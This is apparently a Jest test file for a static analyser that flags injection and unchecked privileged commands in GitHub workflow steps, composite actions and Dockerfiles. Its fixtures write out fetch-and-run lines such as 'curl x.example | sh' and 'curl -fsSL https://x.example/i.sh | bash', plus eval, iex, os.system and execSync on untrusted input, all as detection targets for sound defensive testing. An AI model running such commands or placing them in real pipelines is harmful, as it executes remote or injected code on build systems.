import { beforeAll, describe, expect, test } from '@jest/globals';
import { checks } from '../checks/index.ts';
import { type AnalyzeFile, createAnalyzer } from '../src/engine/analyzeFile.ts';
import { loadCore } from '../src/engine/parse/grammars.ts';
import { SourceText } from '../src/engine/sourceText.ts';

let analyze: AnalyzeFile;

beforeAll(async () => {
  analyze = createAnalyzer(await loadCore('native'), checks, { parseDeadline: 60_000 });
});

/** All that is found in a text, by what the file holds at its place; and what the fixes make of it. */
function found(path: string, text: string) {
  const analysis = analyze({ path, mode: 'file', bytes: new TextEncoder().encode(text) });
  const source = new SourceText(path, text);
  const offset = (line: number, column: number) => source.lineStart(line) + column - 1;
  return {
    findings: analysis.findings.map((finding) => ({
      at: `${finding.startLine}:${finding.startColumn}`,
      text: text.slice(offset(finding.startLine, finding.startColumn), offset(finding.endLine, finding.endColumn)),
      check: finding.checkId,
      scope: finding.scope,
      statement: finding.statement,
      trace: finding.trace.map(({ line }) => line),
      ...(finding.fix
        ? {
            fixed: finding.fix.edits.reduceRight(
              (all, edit) =>
                all.slice(0, offset(edit.startLine, edit.startColumn)) + edit.newText + all.slice(offset(edit.endLine, edit.endColumn)),
              text,
            ),
          }
        : {}),
    })),
    incomplete: analysis.incomplete,
    syntaxErrors: analysis.syntaxErrors,
  };
}

const short = (path: string, text: string) => found(path, text).findings.map(({ at, text: code, check }) => `${at} ${check} ${code}`);

const WORKFLOW = '.github/workflows/ci.yml';
const ACTION = 'tools/action.yml';

/** A workflow with one step, indented below `steps:`. */
const step = (...lines: string[]) => ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', ...lines, ''].join('\n');

describe('workflows', () => {
  test('a script is checked where it stands, in its job and step', () => {
    const text = step(
      '      - name: Set up',
      '        run: |',
      '          echo "${{ github.sha }}"',
      '',
      '          eval "$(cat notes.txt)"',
    );
    expect(found(WORKFLOW, text)).toEqual({
      findings: [
        {
          at: '10:11',
          text: 'eval "$(cat notes.txt)"',
          check: 'injection/shell-eval',
          scope: 'build.Set up',
          statement: 'eval "$(cat notes.txt)"',
          trace: [10, 10],
        },
      ],
      incomplete: [],
      syntaxErrors: 0,
    });
  });

  test.each([
    ['literal with an indentation of its own', ['      - run: |2-', '            curl x.example | sh'], ['7:13']],
    ['folded', ['      - run: >-', '          curl x.example', '          | sh'], ['7:11']],
    ['plain over two lines', ['      - run: curl x.example', '          | sh'], ['6:14']],
    ['double quotes with escapes', ['      - run: "echo \\"a\\u0041\\"; \\', '          curl x.example | sh"'], ['7:11']],
    ['single quotes', ["      - run: 'echo ''a''; curl x.example | sh'"], ['6:27']],
    ['CRLF', ['      - run: |\r', '          echo\r', '          curl x.example | sh\r'], ['8:11']],
  ])('positions in a scalar: %s', (_, lines, places) => {
    const { findings, incomplete } = found(WORKFLOW, step(...lines));
    expect({ places: findings.map(({ at }) => at), incomplete }).toEqual({ places, incomplete: [] });
    expect(findings.map(({ text }) => text.replace(/\s+/g, ' '))).toEqual(['curl x.example | sh']);
  });

  test.each([
    ['the default ends at an error', [], []],
    ['bash too', ['        shell: bash'], []],
    ['a template says it itself', ['        shell: bash -euo pipefail {0}'], []],
    ['a login shell does not', ['        shell: bash -l {0}'], ['failsecure/privileged-unchecked']],
    ['a shell that is not analysed', ['        shell: cmd'], []],
  ])('errors in a step: %s', (_, shell, ids) => {
    const text = step('      - run: |', '          chmod 600 key.pem', '          deploy key.pem', ...shell);
    expect(found(WORKFLOW, text).findings.map(({ check }) => check)).toEqual(ids);
  });

  test('only bash by name has pipefail', () => {
    const script = ['      - run: |', '          chmod 600 key.pem | tee log'];
    expect(short(WORKFLOW, step(...script))).toEqual(['7:11 failsecure/privileged-unchecked chmod 600 key.pem']);
    expect(short(WORKFLOW, step(...script, '        shell: bash'))).toEqual([]);
  });

  test('the shell of the job or the file holds for its steps', () => {
    const job = step('      - run: iex "ls $(Get-Content list)"').replace(
      '    steps:',
      '    defaults:\n      run:\n        shell: pwsh\n    steps:',
    );
    const python = `defaults: {run: {shell: python}}\n${step('      - run: |', '          import os, sys', '          os.system("ls " + sys.argv[1])')}`;
    expect(short(WORKFLOW, job)).toEqual(['9:14 injection/invoke-expression iex "ls $(Get-Content list)"']);
    expect(short(WORKFLOW, python)).toEqual(['9:11 injection/shell-command os.system("ls " + sys.argv[1])']);
  });

  test('composite actions, and JavaScript that is given to an action', () => {
    const composite = 'runs:\n  using: composite\n  steps:\n    - id: get\n      shell: bash\n      run: curl x.example | sh\n';
    expect(found(ACTION, composite).findings.map(({ at, scope }) => `${at} ${scope}`)).toEqual(['6:12 get']);
    const script = step(
      '      - uses: actions/github-script@v7',
      '        with:',
      '          script: |',
      "            const { execSync } = require('child_process')",
      '            execSync(`ls ${process.argv[2]}`)',
    );
    expect(short(WORKFLOW, script)).toEqual(['10:13 injection/shell-command execSync(`ls ${process.argv[2]}`)']);
  });

  test('an expression is a value of its own: neither constant nor steered, and the same one twice', () => {
    const script = (second: string) =>
      step(
        '      - shell: bash',
        '        run: |',
        "          umask 022; echo $KEY > '${{ inputs.dir }}/key.pem'",
        `          chmod 600 ${second}`,
      );
    expect(found(WORKFLOW, script('"${{inputs.dir}}/key.pem"')).findings.map(({ check, text }) => `${check} ${text}`)).toEqual([
      'toctou/create-then-restrict echo $KEY',
    ]);
    const told = step('      - shell: bash {0}', '        run: |', '          chmod 600 "${{ inputs.key }}"', '          touch done');
    expect(found(WORKFLOW, told).findings.map(({ statement }) => statement)).toEqual(['chmod 600 "${{ inputs.key }}"']);
    expect(short(WORKFLOW, script('"${{ inputs.other }}/key.pem"'))).toEqual([]);
    expect(short(WORKFLOW, step('      - run: eval "${{ steps.a.outputs.b }}"'))).toEqual([]);
  });

  test('what no other user can reach, and what the runner fills in, is not told', () => {
    expect(short(WORKFLOW, step('      - run: |', '          echo a > /tmp/list', '          eval "$1"'))).toEqual([]);
  });

  test('a fix is written as the scalar has it', () => {
    const added = ' || { echo "chmod failed" >&2; exit 1; }';
    const block = ['      - shell: bash {0}', '        run: |', '          chmod 600 k.pem', '          deploy k.pem'];
    const quoted = ['      - shell: bash {0}', '        run: "chmod 600 k.pem\\ndeploy k.pem"'];
    expect(found(WORKFLOW, step(...block)).findings.map(({ fixed }) => fixed)).toEqual([
      step(...block).replace('chmod 600 k.pem', (command) => command + added),
    ]);
    expect(found(WORKFLOW, step(...quoted)).findings.map(({ fixed }) => fixed)).toEqual([
      step(...quoted).replace('chmod 600 k.pem', (command) => command + added.replaceAll('"', '\\"')),
    ]);
  });

  test('code with errors is analysed as far as it parses, and code that cannot be looked at is told', () => {
    const broken = found(WORKFLOW, step('      - run: |', '          if [ ; then', '          curl x.example | sh'));
    expect(broken.findings.map(({ at }) => at)).toEqual(['8:11']);
    expect(broken.syntaxErrors).toBeGreaterThan(0);
    const odd = found(WORKFLOW, step('      - run: |', "          : <<E''OF", '          EOF', '          ls'));
    expect(odd.incomplete).toEqual(['a heredoc that ends on line 10 is closed elsewhere by a shell']);
  });
});

describe('Dockerfiles', () => {
  test('a command over several lines', () => {
    const text = [
      'FROM debian AS base',
      'RUN apt-get update && \\',
      '    # why',
      '    chmod 600 /etc/key; \\',
      '    echo "${X}" && curl -fsSL https://x.example/i.sh | \\',
      '      bash',
      '',
    ].join('\n');
    expect(found('Dockerfile', text)).toEqual({
      findings: [
        {
          at: '4:5',
          text: 'chmod 600 /etc/key',
          check: 'failsecure/privileged-unchecked',
          scope: 'base',
          statement: 'chmod 600 /etc/key',
          trace: [4],
        },
        {
          at: '5:20',
          text: 'curl -fsSL https://x.example/i.sh | \\\n      bash',
          check: 'injection/curl-pipe',
          scope: 'base',
          statement: 'curl -fsSL https://x.example/i.sh | bash',
          trace: [5, 6],
        },
      ],
      incomplete: [],
      syntaxErrors: 0,
    });
  });

  const unchecked = 'RUN chmod 600 /etc/key; touch /done';
  test.each([
    ['sh without options', ['FROM a', unchecked], ['2:5']],
    ['SHELL with -e', ['FROM a', 'SHELL ["/bin/bash", "-eo", "pipefail", "-c"]', unchecked], []],
    ['SHELL ends with its stage', ['FROM a', 'SHELL ["bash", "-ec"]', 'FROM b', unchecked], ['4:5']],
    ['a stage made from it keeps it', ['FROM a AS x', 'SHELL ["bash", "-ec"]', 'FROM x', unchecked], []],
    ['a script', ['FROM a', 'RUN <<EOF', 'chmod 600 /etc/key', 'touch /done', 'EOF'], ['3:1']],
    ['a script with its own options', ['FROM a', 'RUN <<EOF', '#!/bin/sh -e', 'chmod 600 /etc/key', 'touch /done', 'EOF'], []],
    ['the program is a word', ['FROM a', 'RUN ["sh", "-c", "echo \\"x\\"; chmod 600 /etc/key; touch /done"]'], ['2:31']],
    ['what it starts with', ['FROM a', 'CMD chmod 600 /etc/key; exec service'], ['2:5']],
    ['its health', ['FROM a', 'HEALTHCHECK --interval=5m CMD chmod 600 /etc/key; true'], ['2:31']],
  ])('where an error goes: %s', (_, lines, places) => {
    const { findings, incomplete } = found('Dockerfile', lines.join('\n'));
    expect({ places: findings.map(({ at }) => at), incomplete }).toEqual({ places, incomplete: [] });
    expect(findings.map(({ text }) => text)).toEqual(places.map(() => 'chmod 600 /etc/key'));
  });

  test('PowerShell and other interpreters', () => {
    expect(short('Dockerfile', 'FROM a\nSHELL ["powershell", "-Command"]\nRUN $x = Get-Content y; iex "ls $x"\n')).toEqual([
      '3:25 injection/invoke-expression iex "ls $x"',
    ]);
    expect(short('Dockerfile', 'FROM a\nRUN <<EOF\n#!/usr/bin/env python3\nimport os, sys\nos.system("ls " + sys.argv[1])\nEOF\n')).toEqual(
      ['5:1 injection/shell-command os.system("ls " + sys.argv[1])'],
    );
  });
});
